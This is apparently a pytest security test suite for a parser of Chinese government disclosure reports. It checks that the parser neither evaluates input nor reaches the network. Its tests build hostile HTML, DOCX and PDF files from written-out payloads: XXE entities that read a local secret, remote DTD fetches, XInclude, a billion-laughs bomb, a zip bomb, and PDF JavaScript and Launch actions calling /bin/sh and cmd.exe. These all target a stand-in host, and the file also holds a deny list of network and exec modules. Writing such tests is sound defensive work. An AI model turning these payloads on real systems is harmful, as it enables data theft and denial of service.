"""No input is evaluated, no network is touched, no external reference followed (issue 7);
inputs beyond the size limits are refused before they are read.

The source checks read the package's syntax trees; the file checks parse hostile HTML, DOCX
and PDF files with every way out of the process watched: sockets, name lookups, child
processes and files opened.
"""

from __future__ import annotations

import ast
import builtins
import io
import os
import re
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

import cost
import disclosure_parser as dp
from conftest import REPO, seed_text
from disclosure_parser.parsing.parser import MAX_INPUT_BYTES, MAX_INPUT_CHARS

sys.path.insert(0, str(REPO / "fuzz"))
import fuzz_parse as fz

PACKAGE = REPO / "src" / "disclosure_parser"
#: an address nothing listens on; a connection attempt is caught before it is made anyway
EVIL = "http://127.0.0.1:9"

# ---------------------------------------------------------------------------------------------
# The source: nothing evaluates input, nothing talks to the network or runs programs
# ---------------------------------------------------------------------------------------------

#: built-ins that run or load code given as data
_EVAL_CALLS = frozenset({"eval", "exec", "compile", "__import__", "breakpoint", "input"})
#: modules that evaluate data (pickle …), reach the network, or run other programs
_FORBIDDEN_MODULES = frozenset(
    {
        "pickle",
        "cPickle",
        "dill",
        "marshal",
        "shelve",
        "ctypes",
        "subprocess",
        "socket",
        "ssl",
        "urllib",
        "urllib3",
        "http",
        "requests",
        "httpx",
        "aiohttp",
        "ftplib",
        "smtplib",
        "telnetlib",
        "xmlrpc",
        "webbrowser",
        "yaml",
    }
)
#: (module file, forbidden module) pairs allowed, and why
_ALLOWED_IMPORTS = {
    # pdfium's C functions called with plain integers instead of pypdfium2's typed pointers
    # (whose conversions cost more than pdfium's work); the functions are pypdfium2's own
    # bindings, looked up by name at import, never from input
    ("_pdfium.py", "ctypes"): "calls pdfium's C API through pypdfium2's bindings",
    # Word 97, WPS and RTF files are converted by LibreOffice: a fixed program found on PATH
    # (never a name or argument taken from the file), headless, in a private folder with a
    # profile that runs no macros and updates no links, under a guard (this Python, -I -S,
    # running a constant script) that kills it past its time limit or when its reader dies
    ("soffice.py", "subprocess"): "runs LibreOffice to convert .doc, .wps and .rtf files",
}
#: os functions that run other programs
_OS_EXEC = re.compile(r"^(?:system|popen|exec\w*|spawn\w*|startfile|posix_spawn\w*|fork\w*)$")


def _sources() -> list[Path]:
    files = sorted(PACKAGE.rglob("*.py"))
    assert len(files) > 20
    return files


def _violations(path: Path) -> list[str]:
    """Every call or import in *path* that evaluates data, reaches out, or runs programs."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found: list[str] = []
    for node in ast.walk(tree):
        where = f"{path.name}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.module and not node.level:
                names.append(node.module)
            found += [
                f"{where}: import {n}"
                for n in names
                if n.split(".")[0] in _FORBIDDEN_MODULES
                and (path.name, n.split(".")[0]) not in _ALLOWED_IMPORTS
            ]
        elif isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in _EVAL_CALLS:
                found.append(f"{where}: {func.id}()")
            elif isinstance(func, ast.Attribute):
                owner = func.value.id if isinstance(func.value, ast.Name) else ""
                if owner == "os" and _OS_EXEC.match(func.attr):
                    found.append(f"{where}: os.{func.attr}()")
                if func.attr == "import_module" and not (
                    node.args and isinstance(node.args[0], ast.Constant)
                ):
                    found.append(f"{where}: import_module() of a name computed at run time")
                if func.attr in ("loads", "load") and owner in _FORBIDDEN_MODULES:
                    found.append(f"{where}: {owner}.{func.attr}()")
                found += _xml_parser_violations(node, where)
    return found


def _xml_parser_violations(call: ast.Call, where: str) -> list[str]:
    """An lxml parser configured to resolve entities, load DTDs or use the network."""
    name = call.func.attr if isinstance(call.func, ast.Attribute) else ""
    if name not in ("XMLParser", "HTMLParser", "XMLPullParser", "iterparse"):
        return []
    risky = {"resolve_entities": True, "load_dtd": True, "no_network": False, "huge_tree": True}
    return [
        f"{where}: {name}({kw.arg}={kw.value.value!r})"
        for kw in call.keywords
        if kw.arg in risky
        and isinstance(kw.value, ast.Constant)
        and kw.value.value == risky[kw.arg]
    ]


#: the one module allowed to run a program: the OCR reader runs the tesseract command (found
#: on PATH, never through a shell, on a picture it wrote itself); see the test below
_RUNS_TESSERACT = "ocr.py"


@pytest.mark.parametrize("path", _sources(), ids=lambda p: p.name)
def test_source_never_evaluates_reaches_out_or_runs_programs(path: Path) -> None:
    """No eval/exec/compile, pickle or marshal loads, network or subprocess modules, os.system
    and friends, computed imports, or lxml parsers that resolve entities, in the package
    (the OCR reader's import of subprocess aside: it runs Tesseract)."""
    found = _violations(path)
    if path.name == _RUNS_TESSERACT:
        found = [v for v in found if not v.endswith(": import subprocess")]
    assert found == []


def test_the_ocr_reader_runs_tesseract_only_and_never_a_shell() -> None:
    """ocr.py calls subprocess.run alone, with a list whose first item is the tesseract
    command it found (a name, never a shell line), and no shell= argument."""
    path = PACKAGE / "readers" / _RUNS_TESSERACT
    tree = ast.parse(path.read_text(encoding="utf-8"))
    calls = [
        node
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and isinstance(node.func.value, ast.Name)
        and node.func.value.id == "subprocess"
    ]
    assert calls
    for call in calls:
        assert isinstance(call.func, ast.Attribute)
        assert call.func.attr == "run"
        assert not [kw for kw in call.keywords if kw.arg == "shell"]
        command = call.args[0]
        assert isinstance(command, ast.List)
        assert isinstance(command.elts[0], ast.Name)
        assert command.elts[0].id in ("path", "command")


def test_the_soffice_reader_runs_libreoffice_only_and_never_a_shell() -> None:
    """soffice.py starts one process, with subprocess.Popen and a list (``argv``: this
    Python running the constant guard script, then soffice found on PATH and fixed
    arguments), and no shell= argument."""
    path = PACKAGE / "readers" / "soffice.py"
    tree = ast.parse(path.read_text(encoding="utf-8"))
    calls = [
        node
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and isinstance(node.func.value, ast.Name)
        and node.func.value.id == "subprocess"
    ]
    assert len(calls) == 1
    (call,) = calls
    assert isinstance(call.func, ast.Attribute)
    assert call.func.attr == "Popen"
    assert not [kw for kw in call.keywords if kw.arg == "shell"]
    assert isinstance(call.args[0], ast.Name)
    assert call.args[0].id == "argv"


def test_the_source_check_catches_what_it_should(tmp_path: Path) -> None:
    """The checker itself flags each kind of violation (and not re.compile or constant imports)."""
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import re, importlib, os\nimport urllib.request\nfrom subprocess import run\n"
        "import pickle\nfrom lxml import etree\n"
        "re.compile('x')\nimportlib.import_module('pandas')\n"
        "eval('1')\nexec('x=1')\ncompile('1', 'f', 'eval')\nos.system('ls')\n"
        "importlib.import_module(name)\npickle.loads(b'')\n"
        "etree.XMLParser(resolve_entities=True)\n",
        encoding="utf-8",
    )
    found = _violations(bad)
    assert [f.split(": ", 1)[1] for f in found] == [
        "import urllib.request",
        "import subprocess",
        "import pickle",
        "eval()",
        "exec()",
        "compile()",
        "os.system()",
        "import_module() of a name computed at run time",
        "pickle.loads()",
        "XMLParser(resolve_entities=True)",
    ]


# ---------------------------------------------------------------------------------------------
# Files: every way out of the process watched
# ---------------------------------------------------------------------------------------------


class Attempt(Exception):
    """Raised (and recorded) by every patched way out of the process."""


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A local file that hostile documents try to pull in."""
    path = tmp_path / "secret.txt"
    path.write_text("TOPSECRET-7a1f", encoding="utf-8")
    return path


@pytest.fixture
def sealed(monkeypatch: pytest.MonkeyPatch, secret: Path) -> list[str]:
    """Patch sockets, name lookups, child processes and os.system to raise and record; record
    every file opened (after the *secret* is written). The record has entries "net …",
    "exec …" and "open …"."""
    record: list[str] = []

    def refuse(kind: str):  # type: ignore[no-untyped-def]
        def call(*args: object, **kwargs: object) -> None:
            record.append(f"{kind} {args[:2]!r}")
            raise Attempt(kind)

        return call

    monkeypatch.setattr(socket.socket, "connect", refuse("net connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("net connect_ex"))
    monkeypatch.setattr(socket, "create_connection", refuse("net create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("net getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("net gethostbyname"))
    monkeypatch.setattr(subprocess.Popen, "__init__", refuse("exec Popen"))
    monkeypatch.setattr(os, "system", refuse("exec system"))
    real_open = builtins.open

    def watched_open(file: object, *args: object, **kwargs: object) -> object:
        record.append(f"open {file!r}")
        return real_open(file, *args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(builtins, "open", watched_open)
    monkeypatch.setattr(io, "open", watched_open)
    return record


def _assert_contained(record: list[str], secret: Path) -> None:
    """No network use, no child process, and the secret file never opened."""
    assert [r for r in record if r.startswith(("net", "exec"))] == []
    assert not [r for r in record if secret.name in r]


def _report_or_error(call: object) -> dp.Report | dp.ParseError:
    """The outcome of *call*, which must be a Report or a ParseError other than the bug net."""
    try:
        return call()  # type: ignore[operator,no-any-return]
    except dp.ParseError as exc:
        assert exc.code != "internal_error", exc.__cause__
        return exc


def _assert_no_secret(outcome: dp.Report | dp.ParseError, text: str = "") -> None:
    shown = repr(outcome.to_dict()) if isinstance(outcome, dp.Report) else str(outcome)
    assert "TOPSECRET" not in shown + text


_HOSTILE_HEAD = f"""<!DOCTYPE html SYSTEM "{EVIL}/html.dtd" [
<!ENTITY leak SYSTEM "SECRET_URI">]>
<html><head>
<base href="{EVIL}/">
<meta http-equiv="refresh" content="0; url={EVIL}/refresh">
<link rel="stylesheet" href="{EVIL}/style.css"><link rel="import" href="{EVIL}/import.html">
<link rel="preload" href="SECRET_URI">
<style>@import url("{EVIL}/import.css"); body {{ background: url({EVIL}/bg.png) }}</style>
<script src="{EVIL}/script.js"></script>
<script>fetch("{EVIL}/fetch"); document.write("<img src='{EVIL}/dw.png'>")</script>
<title>示例镇人民政府2021年政府信息公开工作年度报告</title></head><body>
<img src="{EVIL}/pixel.png" srcset="{EVIL}/a.png 2x"><img src="SECRET_URI">
<iframe src="{EVIL}/frame"></iframe><iframe src="SECRET_URI"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<video src="{EVIL}/v.mp4" poster="{EVIL}/poster.png"></video>
<audio><source src="{EVIL}/a.mp3"></audio>
<svg><image href="{EVIL}/svg.png"/><use href="SECRET_URI#x"/></svg>
<form action="{EVIL}/form"><input type="image" src="{EVIL}/input.png"></form>
<p style="background-image:url({EVIL}/inline.png)">&leak;</p>
<a href="{EVIL}/link">链接</a>
"""


def _hostile_page(secret: Path) -> str:
    """Seed 000's report as a page full of external references (and a local file's URI)."""
    report = fz._page_of(seed_text("000")).split("<body>", 1)[1]
    return _HOSTILE_HEAD.replace("SECRET_URI", secret.as_uri()) + report


def test_html_with_external_references_touches_no_network(
    sealed: list[str], secret: Path, tmp_path: Path
) -> None:
    """A page with remote images, stylesheets, scripts, frames, objects, a base URL, a refresh,
    a DTD and an external entity is read from its own text only: the report's numbers come
    out, and nothing is fetched, run or opened."""
    page = _hostile_page(secret)
    expected = dp.parse(seed_text("000"))
    adapted = dp.html_to_text(page)
    report = adapted.parse()
    assert report.applications.get("new_received", "natural_person") == (
        expected.applications.get("new_received", "natural_person")
    )
    assert report.reviews.get("review", "total") == expected.reviews.get("review", "total")
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8")
    from_file = dp.parse_file(path)
    assert from_file.applications == report.applications
    _assert_no_secret(report, adapted.text)
    _assert_contained(sealed, secret)
    assert EVIL not in adapted.text  # references are not text of the report


def test_html_in_a_javascript_string_touches_no_network(sealed: list[str], secret: Path) -> None:
    """Markup read out of a script's string literals (never run) is no way out either."""
    inner = _hostile_page(secret).replace('"', '\\"').replace("\n", "\\n")
    page = f'<html><body><script>var content = "{inner}";</script></body></html>'
    outcome = _report_or_error(lambda: dp.parse_html(page))
    _assert_no_secret(outcome)
    _assert_contained(sealed, secret)


# DOCX: a Word package whose parts declare external entities, DTDs, XIncludes and external
# relationships


def _docx(text: str) -> bytes:
    return fz._docx_bytes(text)


def _rewrite(data: bytes, changes: dict[str, object]) -> bytes:
    """*data* with parts replaced by change(old text), and new parts added (str values)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            change = changes.get(info.filename)
            if callable(change):
                content = change(content.decode("utf-8")).encode("utf-8")
            target.writestr(info, content)
        for name, part in changes.items():
            if isinstance(part, str) and name not in source.namelist():
                target.writestr(name, part)
    return out.getvalue()


def _doctype(xml: str, root: str, subset: str) -> str:
    """*xml* with a DOCTYPE for *root* holding *subset*, right after the XML declaration."""
    return re.sub(r"(<\?xml[^>]*\?>)", rf"\1<!DOCTYPE {root} {subset}>", xml, count=1)


def _after_root(xml: str, text: str) -> str:
    """*xml* with *text* right after the root element's start tag (past the DOCTYPE)."""
    return re.sub(r"(\]>\s*<[^!?][^>]*?(?<!/)>)", rf"\1{text}", xml, count=1)


def _entity_in_text(xml: str, subset: str, ref: str) -> str:
    xml = _doctype(xml, "w:document", subset)
    return re.sub(r"(<w:t(?: [^>]*)?>)", rf"\1{ref}", xml, count=3)


def _hostile_docx(kind: str, secret: Path) -> bytes:
    good = _docx(seed_text("000"))
    uri = secret.as_uri()
    system = f'[<!ENTITY leak SYSTEM "{uri}">]'
    changes: dict[str, object]
    if kind == "entity-in-text":
        changes = {"word/document.xml": lambda x: _entity_in_text(x, system, "&leak;")}
    elif kind == "parameter-entity-dtd":
        subset = f'[<!ENTITY % remote SYSTEM "{EVIL}/evil.dtd"> %remote;]'
        changes = {"word/document.xml": lambda x: _entity_in_text(x, subset, "&exfil;")}
    elif kind == "external-dtd":
        subset = f'SYSTEM "{EVIL}/doc.dtd"'
        changes = {"word/document.xml": lambda x: _doctype(x, "w:document", subset)}
    elif kind == "entity-in-every-part":
        changes = {
            name: (lambda x: _after_root(_doctype(x, "x", system), "&leak;"))
            for name in (
                "[Content_Types].xml",
                "_rels/.rels",
                "word/_rels/document.xml.rels",
                "word/styles.xml",
                "word/settings.xml",
                "docProps/core.xml",
            )
        }
    elif kind == "xinclude":
        include = (
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{uri}" parse="text"/>'
        )
        changes = {"word/document.xml": lambda x: x.replace("<w:body>", "<w:body>" + include, 1)}
    elif kind == "external-relationships":
        rels = (
            f'<Relationship Id="rIdX1" TargetMode="External" Target="{EVIL}/pic.png" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
            f'<Relationship Id="rIdX2" TargetMode="External" Target="{uri}" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink"/>'
            f'<Relationship Id="rIdX3" TargetMode="External" Target="{EVIL}/template.dotm" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate"/>'
        )
        link = '<w:hyperlink r:id="rIdX2"><w:r><w:t>链接</w:t></w:r></w:hyperlink>'
        changes = {
            "word/_rels/document.xml.rels": lambda x: x.replace(
                "</Relationships>", rels + "</Relationships>"
            ),
            "word/document.xml": lambda x: x.replace("<w:body>", f"<w:body><w:p>{link}</w:p>", 1),
        }
    elif kind == "billion-laughs":
        lol = ['<!ENTITY lol0 "lololololololololol">']
        lol += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
        subset = "[" + "".join(lol) + "]"
        changes = {"word/document.xml": lambda x: _entity_in_text(x, subset, "&lol9;")}
    else:
        raise ValueError(kind)
    return _rewrite(good, changes)


_DOCX_ATTACKS = [
    "entity-in-text",
    "parameter-entity-dtd",
    "external-dtd",
    "entity-in-every-part",
    "xinclude",
    "external-relationships",
    "billion-laughs",
]


@pytest.mark.timeout(120)
@pytest.mark.parametrize("kind", _DOCX_ATTACKS)
def test_docx_external_references_are_not_followed(
    kind: str, sealed: list[str], secret: Path
) -> None:
    """Word packages declaring external entities (XXE) in any part, an external DTD, a
    parameter entity fetching a DTD, an XInclude, external relationships (image, hyperlink,
    template) or an entity expansion bomb: the local file is not read, nothing is fetched,
    the document is read (or refused) without hanging (a generous timeout guards it)."""
    pytest.importorskip("docx")
    data = _hostile_docx(kind, secret)
    outcome = _report_or_error(lambda: dp.parse_docx(data))
    text = ""
    if isinstance(outcome, dp.Report):
        text = dp.docx_to_text(data).text
        assert outcome.sections  # the document was read, not refused
    _assert_no_secret(outcome, text)
    assert "lololololol" * 10 not in text
    _assert_contained(sealed, secret)


@pytest.mark.timeout(60)
def test_docx_zip_bomb_is_refused(
    sealed: list[str], secret: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A Word package whose document part unpacks to 150 MB (from some 150 kB) is refused
    as too large before it is unpacked: no part of it is read, and refusing it allocates
    under 10 MB."""
    pytest.importorskip("docx")
    bomb = _inflated(_docx(seed_text("000")), "word/document.xml", 150)
    assert len(bomb) < 2_000_000
    read: list[str] = []
    real_read = zipfile.ZipFile.read

    def counted(self: zipfile.ZipFile, name: object, pwd: object = None) -> bytes:
        read.append(str(getattr(name, "filename", name)))
        return real_read(self, name, pwd)  # type: ignore[arg-type]

    monkeypatch.setattr(zipfile.ZipFile, "read", counted)
    with pytest.raises(dp.ParseError) as info:
        dp.parse_docx(bomb)
    assert read == []
    assert info.value.code == "too_large"
    assert "unpacks to 150," in str(info.value)
    assert cost.peak_memory(lambda: dp.parse_docx(bomb)) < 10_000_000
    _assert_contained(sealed, secret)


def _inflated(data: bytes, part: str, megabytes: int) -> bytes:
    """*data* with *megabytes* MB of spaces inside *part*'s <w:body>, deflated (written in
    chunks: the test itself never holds the inflated part)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename != part:
                target.writestr(info, content)
                continue
            head, tail = content.split(b"<w:body>", 1)
            entry = zipfile.ZipInfo(part)
            entry.compress_type = zipfile.ZIP_DEFLATED
            with target.open(entry, "w", force_zip64=True) as stream:
                stream.write(head + b"<w:body>")
                for _ in range(megabytes):
                    stream.write(b" " * 1_000_000)
                stream.write(tail)
    return out.getvalue()


# PDF: links, JavaScript, launch actions and remote go-tos


def _with_actions(pdf: bytes, secret: Path) -> bytes:
    """*pdf* with an incremental update: a catalog that runs JavaScript on opening, launches
    a program, opens URIs and a remote document on page events, and a page with link
    annotations to a web address and to the local file."""
    text = pdf.decode("latin-1")
    root = int(re.findall(r"/Root (\d+) 0 R", text)[-1])
    size = int(re.findall(r"/Size (\d+)", text)[-1])
    prev = int(re.findall(r"startxref\s+(\d+)", text)[-1])
    pages = re.search(rf"\n{root} 0 obj\s*<<(.*?)/Pages (\d+) 0 R", text, re.S)
    assert pages is not None
    page = re.search(
        r"\n(\d+) 0 obj\s*<<((?:(?!endobj).)*?/Type /Page\b(?!s).*?)endobj", text, re.S
    )
    assert page is not None
    page_number, page_body = int(page.group(1)), page.group(2).rstrip()
    n = size
    uri = secret.as_uri()
    objects = {
        root: f"<< /Type /Catalog /Pages {pages.group(2)} 0 R /OpenAction {n} 0 R "
        f"/AA << /WC {n + 1} 0 R /WS {n + 2} 0 R /DS {n + 3} 0 R >> "
        f"/URI << /Base ({EVIL}/) >> >>",
        n: f"<< /S /JavaScript /JS (app.launchURL\\('{EVIL}/js', true\\); "
        f"this.submitForm\\('{EVIL}/submit'\\);) >>",
        n + 1: f"<< /S /URI /URI ({EVIL}/uri) >>",
        n + 2: "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        n + 3: f"<< /S /GoToR /F << /Type /Filespec /FS /URL /F ({uri}) >> /D [0 /Fit] >>",
        n + 4: f"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A {n + 1} 0 R >>",
        n + 5: f"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI ({uri}) >> >>",
        page_number: f"<< /Annots [{n + 4} 0 R {n + 5} 0 R] {page_body}",
    }
    body = b"\n"
    offsets: dict[int, int] = {}
    for number, value in sorted(objects.items()):
        offsets[number] = len(pdf) + len(body)
        body += f"{number} 0 obj\n{value}\nendobj\n".encode("latin-1")
    xref = f"xref\n0 1\n{0:010d} 65535 f \n"
    for number, offset in sorted(offsets.items()):
        xref += f"{number} 1\n{offset:010d} 00000 n \n"
    start = len(pdf) + len(body)
    trailer = (
        f"trailer\n<< /Size {n + 6} /Root {root} 0 R /Prev {prev} >>\nstartxref\n{start}\n%%EOF\n"
    )
    return pdf + body + (xref + trailer).encode("latin-1")


def test_pdf_with_links_and_javascript_touches_no_network(sealed: list[str], secret: Path) -> None:
    """A PDF whose catalog runs JavaScript, launches a program and opens URIs and a remote
    document, with link annotations to the web and to a local file, is read for its text only:
    the numbers come out, nothing is run, fetched or opened."""
    pytest.importorskip("pypdfium2")
    data = _with_actions((REPO / "tests" / "fixtures" / "seed_003.pdf").read_bytes(), secret)
    # the actions are really in the file, in the update its last cross-reference table names
    update = data[data.rindex(b"%%EOF", 0, len(data) - 7) :]
    for action in (b"/OpenAction", b"/AA <<", b"/S /Launch", b"/S /JavaScript", b"/Annots ["):
        assert action in update
    sealed.clear()
    report = dp.parse_pdf(data)
    assert report.applications.get("new_received", "total") == 5
    assert report.organization == "洪合镇人民政府"
    _assert_no_secret(report)
    _assert_contained(sealed, secret)


# ---------------------------------------------------------------------------------------------
# Size limits
# ---------------------------------------------------------------------------------------------


def test_default_limits() -> None:
    """The defaults: 20 million characters of text, 50 MB of file."""
    assert MAX_INPUT_CHARS == 20_000_000
    assert MAX_INPUT_BYTES == 50_000_000


@pytest.mark.timeout(60)
def test_text_over_the_limit_is_refused_at_once() -> None:
    """Text one character over the limit raises ParseError 'too_large' naming both sizes and
    the way to raise the limit, before any parsing (20 million characters are refused in a
    few hundred calls, without a copy of the text)."""
    text = seed_text("003")
    assert dp.parse(text, max_chars=len(text)).organization == "洪合镇人民政府"
    with pytest.raises(dp.ParseError) as info:
        dp.parse(text, max_chars=len(text) - 1)
    error = info.value
    assert error.code == "too_large"
    assert f"{len(text):,} characters" in error.msg
    assert f"{len(text) - 1:,} characters" in error.msg
    assert "max_chars=" in error.msg
    assert (error.line, error.column) >= (1, 1)
    huge = "规" * (MAX_INPUT_CHARS + 1)
    with pytest.raises(dp.ParseError, match="over the limit of 20,000,000 characters"):
        dp.parse(huge)
    # reading any of it would make millions of calls; a copy of it takes 40 MB
    assert cost.calls(lambda: dp.parse(huge)) < 10_000
    assert cost.peak_memory(lambda: dp.parse(huge)) < 1_000_000


def test_no_limit_with_none() -> None:
    """max_chars=None lifts the limit."""
    text = seed_text("003")
    assert dp.parse(text, max_chars=None) == dp.parse(text)


@pytest.mark.timeout(60)
def test_a_ten_gigabyte_file_is_refused_without_reading_it(
    tmp_path: Path, sealed: list[str]
) -> None:
    """A 10 GB file (sparse: it takes no disk) is refused from its size alone, whatever its
    suffix, allocating under 1 MB: the message gives its size, the limit and max_bytes."""
    for suffix in (".txt", ".md", ".html", ".docx", ".pdf"):
        path = tmp_path / f"huge{suffix}"
        with path.open("wb") as handle:
            handle.truncate(10 * 1024**3)
        with pytest.raises(dp.ParseError) as info:
            dp.parse_file(path)
        assert info.value.code == "too_large"
        assert "10,737,418,240 bytes" in str(info.value)
        assert "50,000,000 bytes" in str(info.value)
        assert "max_bytes=" in str(info.value)
        assert cost.peak_memory(lambda path=path: dp.parse_file(path)) < 1_000_000


def test_file_limits_are_configurable(tmp_path: Path) -> None:
    """max_bytes and max_chars of parse_file: a file at the byte limit is read, one byte over
    is refused; its text over the character limit is refused; None lifts either."""
    data = seed_text("003").encode("utf-8")
    path = tmp_path / "report.txt"
    path.write_bytes(data)
    assert dp.parse_file(path, max_bytes=len(data)).organization == "洪合镇人民政府"
    with pytest.raises(dp.ParseError, match=f"{len(data):,} bytes, over the limit") as info:
        dp.parse_file(path, max_bytes=len(data) - 1)
    assert info.value.code == "too_large"
    with pytest.raises(dp.ParseError, match="characters long, over the limit") as info:
        dp.parse_file(path, max_chars=100)
    assert info.value.code == "too_large"
    assert dp.parse_file(path, max_bytes=None, max_chars=None).organization == "洪合镇人民政府"


def test_binary_formats_honour_both_limits(tmp_path: Path) -> None:
    """HTML, DOCX and PDF files: refused over max_bytes; their extracted text refused over
    max_chars."""
    pytest.importorskip("selectolax")
    path = tmp_path / "report.html"
    path.write_text(fz._page_of(seed_text("000")), encoding="utf-8")
    size = path.stat().st_size
    assert dp.parse_file(path, max_bytes=size).organization is not None
    for kwargs in ({"max_bytes": size - 1}, {"max_chars": 50}):
        with pytest.raises(dp.ParseError) as info:
            dp.parse_file(path, **kwargs)  # type: ignore[arg-type]
        assert info.value.code == "too_large"
    pdf = REPO / "tests" / "fixtures" / "seed_003.pdf"
    with pytest.raises(dp.ParseError, match="over the limit of 1,000 bytes"):
        dp.parse_file(pdf, max_bytes=1000)


def test_a_stream_of_unknown_size_is_cut_at_the_limit(tmp_path: Path) -> None:
    """A file whose size the file system does not know (here /dev/zero behind a .txt name) is
    read only to one byte past the limit, then refused."""
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero here")
    path = tmp_path / "endless.txt"
    path.symlink_to("/dev/zero")
    with pytest.raises(dp.ParseError, match="more than 1,000 bytes") as info:
        dp.parse_file(path, max_bytes=1000)
    assert info.value.code == "too_large"


def test_too_large_errors_survive_pickling() -> None:
    """The too_large errors cross process boundaries (batch parsing) intact."""
    import pickle

    with pytest.raises(dp.ParseError) as info:
        dp.parse("规章" * 10, max_chars=5)
    again = pickle.loads(pickle.dumps(info.value))
    assert (again.code, again.msg, again.line, again.column) == (
        "too_large",
        info.value.msg,
        info.value.line,
        info.value.column,
    )
